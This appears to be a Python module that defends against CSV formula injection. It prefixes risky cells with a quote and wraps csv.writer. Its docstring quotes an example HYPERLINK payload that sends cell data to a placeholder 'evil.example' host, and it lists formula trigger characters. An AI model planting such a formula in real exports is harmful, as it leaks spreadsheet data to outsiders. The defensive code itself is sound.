"""CSV files that a spreadsheet opens as data, never as formulas (CSV/formula injection).

Anyone can type ``=HYPERLINK("https://evil.example?"&A2, "Click")`` as a name, job title or
goal; a coordinator who opens the export in Excel, LibreOffice or Google Sheets would run it.
OWASP's rule: a cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
prefixed with a single quote, so the spreadsheet shows it as text. Every CSV Tandem writes goes
through :func:`writer` (a test fails if a module calls :func:`csv.writer` directly).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` unchanged unless it is text a spreadsheet would read as a formula.

    Numbers stay numbers (a negative count is not an injection); only strings are prefixed."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """:func:`csv.writer` whose every cell passes through :func:`safe_cell`."""

    def __init__(self, stream, *args: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, *args, **kwargs)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, *args: Any, **kwargs: Any) -> SafeWriter:
    """Drop-in for :func:`csv.writer` that neutralises formula cells."""
    return SafeWriter(stream, *args, **kwargs)
